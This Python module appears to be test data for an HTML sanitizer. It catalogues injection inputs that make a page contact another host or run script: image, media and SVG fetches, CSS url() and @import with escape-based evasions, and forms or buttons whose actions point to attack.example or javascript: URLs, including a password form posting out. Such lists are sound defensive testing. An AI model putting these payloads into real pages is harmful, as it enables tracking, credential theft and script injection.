"""What asks another host for something as soon as the page is read: pictures, sound, styles, forms."""

from .table import kind

FETCHES = kind(
    "pictures and sound from elsewhere",
    r"""
<img src=https://attack.example/i>
<img src=//attack.example/i>
<img src="/\attack.example/i">
<img src="\\attack.example\i">
<img src="/&#9;/attack.example/i">
<IMG SRC=HTTPS://ATTACK.EXAMPLE/I>
<img srcset=//attack.example/i>
<img srcset="https://attack.example/i 320w, https://attack.example/j 640w" sizes=100vw>
<img src=//attack.example/i?
<image src=//attack.example/i>
<picture><source srcset="//attack.example/i" type=image/webp><img src=/static/icon.svg></picture>
<table background=//attack.example/b><tr><td>x</table>
<table><tr><td background=//attack.example/b>x</table>
<table><tr><th background=//attack.example/b>x</table>
<body background=//attack.example/b>
<video src=//attack.example/v></video>
<video poster=//attack.example/p></video>
<audio src=//attack.example/a></audio>
<audio controls autoplay><source src=//attack.example/a></audio>
<video src=data:, ><track default src=//attack.example/t></video>
<input type=image src=//attack.example/i>
<svg><image href=//attack.example/i /></svg>
<svg><filter id=f><feImage href=//attack.example/i /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><use href=//attack.example/u#x /></svg>
<svg><rect fill=url(//attack.example/f#x) width=9 height=9 /></svg>
<svg><script type=x href=//attack.example/s.js></script></svg>
""",
    silent=r"""
<img dynsrc=//attack.example/i>
<img longdesc=//attack.example/i usemap=//attack.example/m>
<img src=/static/icon.svg attributionsrc=//attack.example/r>
<p background=//attack.example/b>x</p>
<math><mglyph src=//attack.example/i /></math>
<html manifest=//attack.example/m>
<blockquote cite=//attack.example/c>x</blockquote>
""",
)

STYLES = kind(
    "styles",
    r"""
<p style="background:url(//attack.example/b)">x</p>
<p STYLE="BACKGROUND:URL(//attack.example/b)">x</p>
<p style="background:\75\72\6C(//attack.example/b)">x</p>
<p style="back/**/:x;background/**/:url(//attack.example/b)">x</p>
<p style="&#98;ackground:url&lpar;//attack.example/b)">x</p>
<p style="background:url(/\attack.example/b)"><p style="background:url('\2f\2f attack.example/b')">x</p>
<p style="background:image-set('//attack.example/b' 1x)">x</p>
<p style="background:-webkit-cross-fade(url(//attack.example/b),url(//attack.example/c),50%)">x</p>
<p style="content:url(//attack.example/b)">x</p>
<p style="mask-image:url(//attack.example/b)">x</p>
<p style="--x:url(//attack.example/b);background:var(--x)">x</p>
<p style="cursor:url(//attack.example/b),auto">x</p>
<ul style="list-style:url(//attack.example/b)"><li>x</ul>
<div class=callout-note style="background:url(//attack.example/b)"><p>x</p></div>
<th style="x"><table><tr><th scope=col style="background:url(//attack.example/b)">x</table>
<style>@import '//attack.example/c.css'</style>
<STYLE>@IMPORT"//attack.example/c.css"</STYLE>
<style>@\69mport "//attack.example/c.css"</style>
<style>p{background:url(//attack.example/b)}</style><p>x
<style>body::before{content:url(//attack.example/b)}</style>
<style>@font-face{font-family:x;src:url(//attack.example/f)}p{font-family:x}</style><p>x
<style><!--\n@import '//attack.example/c.css'--></style>
<style>@import 'data:text/css,@import"https://attack.example/c.css"'</style>
<table><style>@import '//attack.example/c.css'</style></table>
<svg><style>@import&#32;'//attack.example/c.css';</style></svg>
<p style="filter:url(//attack.example/f#x)">x</p>
<p style="clip-path:url(//attack.example/f#x)">x</p>
""",
    silent=r"""
<p style="width:expression(hit=1)">x</p>
<p style="xss:e\78pression(hit=1)">x</p>
<p style="-moz-binding:url(//attack.example/x.xml#x)">x</p>
<p style="behavior:url(//attack.example/x.htc)">x</p>
<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//attack.example/i')">x</p>
<style type=text/javascript>hit=1</style>
<p class="hit" style="position:fixed;inset:0;z-index:99999">x</p>
""",
)

FORMS = kind(
    "forms and buttons",
    r"""
<form action=//attack.example/><input name=password type=password><button>x</button></form>
<form action="https://attack.example/" method=post><textarea name=t>x</textarea><input type=submit></form>
<form action="javascript:hit=1"><button>x</button></form>
<form action="&#106;ava&Tab;script:hit=1"><input type=submit value=x></form>
<form><button formaction=//attack.example/>x</button></form>
<form><button formaction="java&NewLine;script:hit=1">x</button></form>
<form><input type=submit formaction=javascript:hit=1></form>
<form><input type=image src=/static/icon.svg formaction=//attack.example/></form>
<form id=h-f></form><button form=h-f formaction=javascript:hit=1>x</button>
<form id=h-f></form><p><input type=submit form=h-f formaction=//attack.example/></p>
<form onsubmit=hit=1><button>x</button></form>
<form onformdata=hit=1><button>x</button></form>
<form><input required oninvalid=hit=1><button>x</button></form>
<table><form action=//attack.example/><tr><td><button>x</button></table>
<form action=//attack.example/><details><summary>x</summary><button>x</button></details></form>
<form action=//attack.example/ target=_blank><button>x</button></form>
<button onclick=hit=1>x</button>
<input type=button value=x onclick=hit=1>
<fieldset onclick=hit=1><legend>x</legend></fieldset>
<select onchange=hit=1><option>x<option>y</select>
<isindex type=image src=x onerror=hit=1>
""",
    silent=r"""
<button form=hit formaction=javascript:hit=1>x</button>
""",
)
